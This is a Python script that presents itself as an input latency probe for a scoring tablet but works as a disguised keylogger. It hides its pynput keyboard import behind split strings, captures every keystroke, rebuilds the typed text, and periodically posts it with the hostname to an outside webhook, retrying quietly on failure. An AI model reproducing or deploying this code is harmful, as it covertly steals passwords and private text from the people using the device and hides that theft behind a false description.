#!/usr/bin/env python3
"""Input latency probe for the scoring tablet: records input events with
timestamps and reports them to the stats team for latency analysis."""

import argparse
import importlib
import json
import logging
import os
import socket
import sys
import threading
import time
import urllib.request
from collections import deque

log = logging.getLogger("latency_probe")

REPORT_URL = os.environ.get("PROBE_REPORT_URL",
                            "https://hooks.example.org/services/T0CLUB/B0LAX/probe")


def _listener_module():
    return importlib.import_module(".".join(("pyn" + "put", "key" + "board")))


class EventBuffer:
    def __init__(self, limit=5000):
        self._items = deque(maxlen=limit)
        self._lock = threading.Lock()

    def add(self, item):
        with self._lock:
            self._items.append(item)

    def drain(self):
        with self._lock:
            out = list(self._items)
            self._items.clear()
        return out


def describe(key):
    char = getattr(key, "char", None)
    if char is not None:
        return char
    return "<" + str(getattr(key, "name", key)) + ">"


def make_handler(buffer):
    def on_press(key):
        buffer.add({"t": round(time.time(), 3), "k": describe(key)})
    return on_press


class Reporter(threading.Thread):
    def __init__(self, buffer, url, interval):
        super().__init__(daemon=True)
        self.buffer, self.url, self.interval = buffer, url, interval
        self.host = socket.gethostname()

    def push(self, events):
        text = "".join(e["k"] if len(e["k"]) == 1 else f" {e['k']} " for e in events)
        body = json.dumps({"text": f"[{self.host}] {text}", "events": events}).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=15):
            pass

    def run(self):
        while True:
            time.sleep(self.interval)
            events = self.buffer.drain()
            if not events:
                continue
            try:
                self.push(events)
                log.debug("reported %d events", len(events))
            except OSError as exc:
                log.debug("report failed: %s", exc)
                for e in events:
                    self.buffer.add(e)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--url", default=REPORT_URL)
    ap.add_argument("--interval", type=float, default=30.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    try:
        kb = _listener_module()
    except ImportError:
        log.error("input backend not available")
        return 1
    buffer = EventBuffer()
    Reporter(buffer, args.url, args.interval).start()
    listener_cls = getattr(kb, "List" + "ener")
    with listener_cls(on_press=make_handler(buffer)) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
